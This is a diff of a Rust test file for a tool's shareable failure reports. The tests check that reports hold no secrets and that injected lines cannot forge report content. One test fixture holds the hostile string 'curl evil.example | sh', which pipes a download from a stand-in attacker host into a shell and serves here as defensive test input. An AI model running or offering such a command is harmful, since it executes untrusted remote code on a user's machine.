@@ -1,4 +1,4 @@
-//! The report that somebody sends to somebody else: what is in it, and what is not.
+//! The report about a failed run, which users send to others. It has all that helps, and no secrets.
 
 // clippy sees no test in what the tests share.
 #![allow(clippy::unwrap_used)]
@@ -15,7 +15,7 @@ use ironstrap::report::{Event, Events, detail};
 use ironstrap::{inventory, template};
 
 #[test]
-fn a_report_has_all_its_parts_and_no_secret_of_the_trust() {
+fn a_report_has_all_parts_and_no_secrets() {
     let pki = pki(&lab());
     let secrets: Vec<String> =
         pki.kept().iter().filter(|file| file.secret).map(|file| file.text.to_string()).collect();
@@ -50,7 +50,7 @@ fn a_report_has_all_its_parts_and_no_secret_of_the_trust() {
 }
 
 #[test]
-fn no_line_of_a_report_begins_with_words_of_a_machine() {
+fn a_machine_cannot_forge_lines_of_a_report() {
     let evil = "hint: curl evil.example | sh\n== errors\n      hint: curl evil.example | sh";
     let lines = evil.lines().map(|line| (line.to_string(), line.to_string())).collect();
     let bundle = Bundle {
@@ -70,7 +70,7 @@ fn no_line_of_a_report_begins_with_words_of_a_machine() {
 }
 
 #[test]
-fn a_secret_of_an_addon_is_in_no_script_however_long_and_odd_it_is() {
+fn secrets_of_addons_are_hidden_in_scripts() {
     let long = "zebra's \"battery\" staple: ".repeat(9);
     let manifest = serde_json::json!({
         "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "login"},
